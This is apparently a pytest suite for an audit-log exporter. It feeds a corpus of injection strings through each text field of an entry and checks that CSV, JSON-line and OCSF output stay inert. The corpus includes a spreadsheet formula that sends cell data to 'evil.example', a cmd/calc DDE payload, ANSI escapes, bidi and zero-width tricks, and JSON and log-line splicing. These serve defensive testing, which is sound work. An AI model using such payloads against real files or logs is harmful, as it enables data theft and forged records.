"""Whatever stands in a leaf, what shows it is steered by nothing in it: a corpus through every text field."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from dataclasses import replace
from typing import Any

import pytest
from audit_making import a_full_entry

from audit.entry import (
    Actor,
    ActorType,
    Basis,
    Detail,
    Entry,
    EntryRefusedError,
    FieldOutcome,
    Message,
    Party,
    encode,
)
from audit.ocsf import ocsf_line, to_ocsf
from audit.spelling import header, line, row, visible
from policies.terms import Effect, Outcome

CORPUS = {
    "line feed": "a\n2026-11-24 permit stf_admin",
    "carriage return": "a\r\nindex,0",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return and formula": "\r=1+1",
    "full-width formula": "＝1＋1",
    "quote and comma": '","=1+1","',
    "quote": '"""',
    "ansi": "\x1b[2J\x1b[31mpermit\x1b[0m",
    "c1 control": "\x9b31m",
    "bell and backspace": "deny\x08\x08\x08\x08permit\x07",
    "nul": "a\x00b",
    "delete": "a\x7fb",
    "right to left": "a\u202etimrep\u202c",
    "isolates": "\u2066a\u2069\u2067b",
    "marks": "\u200e\u200f\u061c",
    "joiners": "per\u200bmit\u200d\ufeff",
    "separators": "a\u2028b\u2029c",
    "next line": "a\x85b",
    "soft hyphen": "de\xadny",
    "tags": "a\U000e0041\U000e007f",
    "annotation": "\ufff9a\ufffab\ufffb",
    "html": "<script>alert(1)</script>",
    "json": '"},{"index":9,"leaf_b64":"',
    "escape": "\\u202e \\n \\",
    "chinese": "张丽的请求：查看",
}


def fields_of(text: str) -> dict[str, Entry]:
    """An entry for each place of a leaf that takes text, with the text there."""
    full = a_full_entry()
    assert full.message is not None
    places: dict[str, dict[str, Any]] = {
        "decision": {"decision": text},
        "why": {"why": (text, text)},
        "resource": {"resource": text},
        "purpose": {"purpose": text},
        "policy": {"policy": text},
        "request": {"request": text},
        "corr": {"corr": text},
        "role": {"actor": full.actor._replace(roles=(text, text))},
        "relation": {"actor": full.actor._replace(relation=text)},
        "field": {"fields": (FieldOutcome(text, Effect.HIDE),)},
        "field why": {"fields": (FieldOutcome("f", Effect.HIDE, (text,), (text,)),)},
        "message id": {"message": Message(text, "sms", b"", Outcome.HOLD)},
        "channel": {"message": Message("m", text, b"", Outcome.HOLD)},
        "message rules": {"message": Message("m", "sms", b"", Outcome.HOLD, (text,))},
        "consents": {"basis": Basis((text,))},
        "ground": {"basis": Basis((), text)},
        "detail kid": {"detail": Detail(1, text, b"")},
    }
    return {place: replace(full, **parts) for place, parts in places.items()}


def is_quiet(text: str) -> bool:
    return not any(unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp", "Cs") for sign in text)


@pytest.mark.parametrize("payload", CORPUS.values(), ids=list(CORPUS))
def test_no_payload_steers_a_table_a_line_or_an_event(payload: str) -> None:
    for place, entry in fields_of(payload).items():
        leaf = encode(entry)
        told = row(5, leaf)
        assert told.endswith('"\r\n'), place
        assert is_quiet(told[:-2]), place
        (cells,) = csv.reader(io.StringIO(told, newline=""), strict=True)
        assert len(cells) == header().count(",") + 1, place
        assert not [
            cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋"))
        ]
        for text in (line(5, leaf), ocsf_line(5, entry)):
            assert text.endswith("\n"), place
            assert is_quiet(text[:-1]), place
        assert json.loads(line(5, leaf))["decoded"] == json.loads(leaf), place
        assert json.loads(ocsf_line(5, entry)) == json.loads(json.dumps(to_ocsf(5, entry))), place


@pytest.mark.parametrize(
    "actor",
    [Party(ActorType.SYSTEM, "a\nb"), Party(ActorType.STAFF, "=1"), Party(ActorType.MEMBER, "\u202e" * 32)],
)
def test_ids_and_acts_take_no_free_text_at_all(actor: Party) -> None:
    with pytest.raises(EntryRefusedError):
        encode(replace(a_full_entry(), actor=Actor(actor)))
    with pytest.raises(EntryRefusedError):
        encode(replace(a_full_entry(), act="read\npermit"))


def test_every_format_and_control_character_of_this_python_is_shown_and_ordinary_text_stays() -> None:
    for code in range(sys.maxunicode + 1):
        sign = chr(code)
        if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp", "Cs"):
            assert re.fullmatch(r"(\\u[0-9a-f]{4}){1,2}", visible(sign)), hex(code)
            if not 0xD800 <= code <= 0xDFFF:
                assert json.loads(f'"{visible(sign)}"') == sign
        elif sign.isprintable():
            assert visible(sign) == sign


def test_the_header_starts_with_the_mark_that_excel_needs() -> None:
    assert header().encode().startswith(b"\xef\xbb\xbf" + b'"index","time",')


def test_a_table_says_what_an_entry_says() -> None:
    (names,) = csv.reader(io.StringIO(header()[1:]))
    (cells,) = csv.reader(io.StringIO(row(41, encode(a_full_entry())), newline=""))
    told = dict(zip(names, cells, strict=True))
    assert (told["index"], told["time"], told["act"]) == ("41", "2026-02-02T02:40:00.007Z", "read")
    assert told["fields"] == "mobile: mask (masked_by_rule g12); blood_pressure: show (consent_given g40)"
    assert told["subjects"].count(" ") == 1


@pytest.mark.parametrize(
    "leaf",
    [b'{"t":true,"actor":[],"fields":{"a":1},"why":[1,{"x":null}],"msg":"m","subj":7}', b"{}",
     b'{"t":99999999999999999999,"fields":[3]}', b'{"actor":{"id":{"deep":[1]}},"n":1.5}'],
)  # fmt: skip
def test_a_leaf_of_another_version_is_spelt_all_the_same(leaf: bytes) -> None:
    (cells,) = csv.reader(io.StringIO(row(0, leaf), newline=""))
    assert len(cells) == header().count(",") + 1


@pytest.mark.parametrize("leaf", [b"", b"[]", b"null", b"\xff", b"{"])
def test_what_is_no_object_has_no_row(leaf: bytes) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 (of two kinds, one the other's child)
        row(0, leaf)
